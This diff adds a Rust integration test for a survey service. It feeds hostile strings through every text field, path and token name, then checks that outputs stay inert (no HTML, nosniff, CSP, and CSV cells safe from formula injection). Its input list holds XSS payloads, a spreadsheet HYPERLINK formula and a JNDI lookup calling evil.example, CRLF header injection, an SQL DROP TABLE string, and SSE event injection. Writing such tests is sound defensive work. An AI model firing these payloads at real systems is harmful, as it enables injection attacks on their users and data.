@@ -1,0 +1,178 @@
+//! Strings that would do harm where they are taken for something else, through every field that
+//! takes text, to every output.
+
+use reqwest::{Method, header};
+use serde_json::{Value, json};
+
+use super::{Office, send};
+use crate::{
+    databases::{TestDatabase, on_both},
+    harness,
+};
+
+on_both!(hostile_texts_stay_texts);
+
+/// What is tried.
+fn texts() -> Vec<String> {
+    [
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "</textarea><svg/onload=alert(1)>",
+        "=HYPERLINK(\"http://evil.example\",\"x\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r\nset-cookie: a=b",
+        "'; DROP TABLE surveys; --",
+        "$1 {0} %s %n ${jndi:ldap://evil.example}",
+        "\u{202e}desrever\u{202c}\u{2066}",
+        "a\u{0}b",
+        "\u{1b}[2J\u{7}",
+        "e\u{301}\u{feff}\u{fffd}",
+        "data: injected\n\nevent: x",
+    ]
+    .map(str::to_owned)
+    .into_iter()
+    .chain(["x".repeat(100_000)])
+    .collect()
+}
+
+async fn hostile_texts_stay_texts(database: TestDatabase) {
+    let office = Office::open(database).await;
+    for (place, text) in texts().iter().enumerate() {
+        let id = format!("hostile-{place}");
+        let mut survey = super::survey(&id, 1);
+        survey["title"] = json!({ "en": text });
+        survey["description"] = json!({ "en": text });
+        survey["questions"][1]["title"] = json!({ "en": text });
+        survey["questions"][1]["options"][0]["title"] = json!({ "en": text });
+        survey["languages"] = json!(["en"]);
+        let response = office.post("/surveys", &survey).await;
+        let status = response.status();
+        assert!([201, 422].contains(&status.as_u16()), "{status} {text:?}");
+        is_inert(&response, text);
+        if status == 201 {
+            read_back(&office, &id, text).await;
+        }
+        // As an id, in an address, a query, a header and a token's name.
+        let mut named = super::survey("x", 1);
+        named["id"] = json!(text);
+        assert_eq!(
+            office.post("/surveys", &named).await.status(),
+            422,
+            "{text:?}"
+        );
+        let mut path = url_of(&office, &["api", "v1", "surveys", text]);
+        for end in [
+            "",
+            "results",
+            "results.csv",
+            "rows.csv",
+            "settings",
+            "status",
+        ] {
+            if !end.is_empty() {
+                path = url_of(&office, &["api", "v1", "surveys", text, end]);
+            }
+            let request = office.running.http.get(path.clone());
+            let response = request.bearer_auth(&office.operator).send().await.unwrap();
+            assert!(
+                [404, 414, 431].contains(&response.status().as_u16()),
+                "{text:?} {end}"
+            );
+            is_inert(&response, text);
+        }
+        let token = json!({ "name": text, "role": "viewer" });
+        let response = office.post("/tokens", &token).await;
+        assert!([201, 400].contains(&response.status().as_u16()), "{text:?}");
+        is_inert(&response, text);
+    }
+    let names = office.get("/tokens").await;
+    let names = names.as_array().unwrap().iter().map(|token| &token["name"]);
+    assert!(
+        names
+            .filter_map(Value::as_str)
+            .all(|name| !name.contains(char::is_control))
+    );
+}
+
+fn url_of(office: &Office, segments: &[&str]) -> reqwest::Url {
+    let mut url: reqwest::Url = office.running.collector.url().parse().unwrap();
+    url.path_segments_mut().unwrap().clear().extend(segments);
+    url
+}
+
+/// The headers that keep a browser from taking an answer for a page.
+fn is_inert(response: &reqwest::Response, text: &str) {
+    let headers = response.headers();
+    let kind = headers[header::CONTENT_TYPE].to_str().unwrap();
+    assert!(!kind.contains("html"), "{kind} {text:?}");
+    assert_eq!(
+        headers[header::X_CONTENT_TYPE_OPTIONS],
+        "nosniff",
+        "{text:?}"
+    );
+    assert!(headers.contains_key(header::CONTENT_SECURITY_POLICY));
+    assert!(!headers.contains_key(header::SET_COOKIE));
+}
+
+/// What was published comes back as it was, as JSON and as an event, and nowhere else.
+async fn read_back(office: &Office, id: &str, text: &str) {
+    let survey = office.get(&format!("/surveys/{id}")).await;
+    assert_eq!(survey["title"]["en"], *text);
+    assert_eq!(survey["questions"][1]["options"][0]["title"]["en"], *text);
+    let listed = office.get("/surveys").await;
+    let listed = listed.as_array().unwrap().iter();
+    assert!(listed.into_iter().any(|one| one["title"]["en"] == *text));
+    let keep = json!({"keep_rows": true, "results": "public"});
+    let response = office
+        .patch(&format!("/surveys/{id}/settings"), &keep)
+        .await;
+    assert_eq!(response.status(), 200);
+    let survey: sotto_survey::Survey = serde_json::from_value(survey).unwrap();
+    let mut generator = <rand::rngs::ChaCha20Rng as rand::SeedableRng>::seed_from_u64(1);
+    let answers: Vec<_> = survey
+        .questions()
+        .iter()
+        .map(|question| Some(question.answer(0).unwrap()))
+        .collect();
+    let submission = survey.randomize(&answers, &mut generator).unwrap();
+    let address = office
+        .running
+        .address(&format!("/api/v1/surveys/{id}/submissions"));
+    let posted = harness::post(&office.running.http, &address, submission.body(&survey)).await;
+    assert_eq!(posted.status(), 201);
+    for end in [
+        "results",
+        "results.csv",
+        "rows.csv",
+        "rows.ndjson",
+        "rows.parquet",
+    ] {
+        let path = format!("/surveys/{id}/{end}");
+        let request = office.request(Method::GET, &path, &office.operator);
+        let response = send(request, None).await;
+        assert_eq!(response.status(), 200, "{path}");
+        is_inert(&response, text);
+        let bytes = response.bytes().await.unwrap();
+        let found = String::from_utf8_lossy(&bytes);
+        // Results, tables and rows name ids alone.
+        assert!(!found.contains(text), "{path} {text:?}");
+        if end.ends_with("csv") {
+            for record in csv::Reader::from_reader(&bytes[..]).records() {
+                for cell in &record.unwrap() {
+                    let number = cell.parse::<f64>().is_ok();
+                    assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
+                }
+            }
+        }
+    }
+    let mut live = office
+        .running
+        .get(&format!("/api/v1/surveys/{id}/results/live"))
+        .await;
+    let event = live.chunk().await.unwrap().unwrap();
+    let event = String::from_utf8(event.to_vec()).unwrap();
+    assert_eq!(event.matches("\n\n").count(), 1, "{event}");
+}
